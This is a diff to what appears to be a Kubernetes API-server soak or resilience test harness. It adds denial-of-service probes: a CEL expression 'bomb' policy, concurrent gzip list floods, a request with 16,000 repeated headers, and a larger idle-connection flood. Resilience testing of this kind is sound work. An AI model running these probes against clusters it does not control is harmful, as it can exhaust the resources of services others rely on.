@@ -198,6 +198,47 @@ async def owner_references(target: Target) -> str:
     return await _ask(target, "POST", f"{SPACE}/configmaps", bodies.owned())
 
 
+async def cel_bomb(target: Target) -> str:
+    """A policy whose expressions compare and write out values with two to the thirtieth parts."""
+    group = "/apis/admissionregistration.k8s.io/v1"
+    paths = [f"{group}/validatingadmissionpolicies", f"{group}/validatingadmissionpolicybindings"]
+    try:
+        for path, body in zip(paths, bodies.cel_bomb(), strict=True):
+            await _ask(target, "POST", path, body)
+        return await _ask(target, "POST", f"{SPACE}/configmaps?dryRun=All", bodies.config_map("bombed", "x"))
+    finally:
+        for path in paths:
+            await _ask(target, "DELETE", f"{path}/bomb.soak.example", b"{}")
+
+
+async def gzip_lists(target: Target) -> str:
+    """Many compressed lists of large objects at once."""
+
+    async def read() -> str:
+        connection = await connect(target, target.context())
+        try:
+            return str((await connection.ask(target.request("GET", f"{SPACE}/configmaps", gzip=True))).status)
+        finally:
+            connection.close()
+
+    return " ".join(sorted(set(await asyncio.gather(*(read() for _ in range(_IDLE))))))
+
+
+async def repeated_headers(target: Target) -> str:
+    """One header line again and again, as often as fits."""
+    sent = b"GET /livez HTTP/1.1\r\nHost: a\r\n" + b"X:\r\n" * 16_000 + b"\r\n"
+    answers = set()
+    for _ in range(_IDLE):
+        reader, writer = await asyncio.open_connection(target.host, target.port, ssl=target.context())
+        try:
+            writer.write(sent)
+            with suppress(ConnectionError):
+                answers.add((await reader.readline()).split()[1].decode())
+        finally:
+            writer.transport.abort()
+    return " ".join(sorted(answers))
+
+
 ATTACKS: dict[str, Run] = {
     "pipelining": pipeline,
     "yaml-lines": _sends("POST", REVIEWS, bodies.yaml_lines, YAML),
@@ -216,10 +257,13 @@ ATTACKS: dict[str, Run] = {
     "giant-quantity": _sends("POST", f"{SPACE}/pods", bodies.giant_quantity),
     "slow-body": trickle,
     "slow-headers": _connected(300, b"GET / HTTP/1.1\r\nHost: a\r\nX: "),
-    "idle-connections": _connected(400, b""),
+    "idle-connections": _connected(1000, b""),
     "stopped-handshakes": _connected(1000, b"\x16\x03\x01\x02\x00\x01", is_tls=False),
     "yaml-crowd": yaml_crowd,
     "hanging-webhooks": hanging_webhooks,
+    "cel-bomb": cel_bomb,
+    "gzip-lists": gzip_lists,
+    "repeated-headers": repeated_headers,
 }
 
 
